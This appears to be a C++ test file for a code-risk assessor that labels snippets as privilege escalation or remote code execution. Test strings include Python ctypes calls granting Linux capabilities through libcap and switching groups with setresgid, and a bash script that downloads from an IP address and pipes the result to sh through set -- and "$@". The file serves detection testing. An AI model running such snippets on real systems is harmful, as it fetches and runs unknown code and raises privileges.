// The classes the forty-second round modelled (issue 14), found by programs
// written from the rubric alone by writers who never saw the assessor
// (tests/corpus/prog46_MANIFEST.tsv): home and office network appliances,
// software supply-chain tooling, browser automation, blockchain node
// operations, and Python packaging with install-time hooks. Its aside
// scored 33/36 before any change; the class below came from its tune part
// (63/64 before). Strings here are never executed.
#include "test_util.hpp"

namespace mai::assess::test {
namespace {

// libcap through ctypes (cap_set_file, cap_set_proc) grants capabilities,
// as setcap does; and libc's set*gid kin through ctypes change the group.
TEST(FortySecondRoundClasses, CapabilitiesAndGroupsThroughCtypes) {
  const Case cases[] = {
      {"cap_net_raw granted to a file through libcap", H,
       "import ctypes, ctypes.util, os\n"
       "lib = ctypes.CDLL(ctypes.util.find_library('cap') or 'libcap.so.2', use_errno=True)\n"
       "lib.cap_from_text.restype = ctypes.c_void_p\n"
       "cap = lib.cap_from_text(b'cap_net_raw+ep')\n"
       "lib.cap_set_file(os.fsencode('bin/pinger'), cap)\n",
       "PRIVILEGE-ESCALATION"},
      {"process capabilities raised through libcap", H,
       "import ctypes\nlib = ctypes.CDLL('libcap.so.2')\ncap = lib.cap_get_proc()\nlib.cap_set_proc(cap)\n",
       "PRIVILEGE-ESCALATION"},
      {"a group switch through libc's setresgid", H,
       "import ctypes\nlibc = ctypes.CDLL('libc.so.6', use_errno=True)\nlibc.setresgid(1000, 1000, 1000)\n",
       "PRIVILEGE-ESCALATION"},
      {"a file's capabilities only read through libcap", L,
       "import ctypes, os\nlib = ctypes.CDLL('libcap.so.2')\nlib.cap_get_file.restype = ctypes.c_void_p\n"
       "lib.cap_to_text.restype = ctypes.c_char_p\n"
       "print(lib.cap_to_text(lib.cap_get_file(os.fsencode('bin/pinger')), None))\n"},
  };
  for (const auto& c : cases) check(c);
}

// Found while probing shell spellings beside the round: `set -- WORDS`
// makes WORDS the arguments, and "$@" then runs them as a command.
TEST(FortySecondRoundClasses, SetDashDashReplacesTheArguments) {
  const Case cases[] = {
      {"a download piped to sh through set -- and \"$@\"", B,
       "#!/bin/bash\nset -- curl -s http://198.51.100.4/s\n\"$@\" | sh\n", "REMOTE-CODE-EXECUTION", SH},
      {"a listing run through set -- and \"$@\"", L, "#!/bin/bash\nset -- ls -la build\n\"$@\"\n", nullptr, SH},
  };
  for (const auto& c : cases) check(c);
}

}  // namespace
}  // namespace mai::assess::test
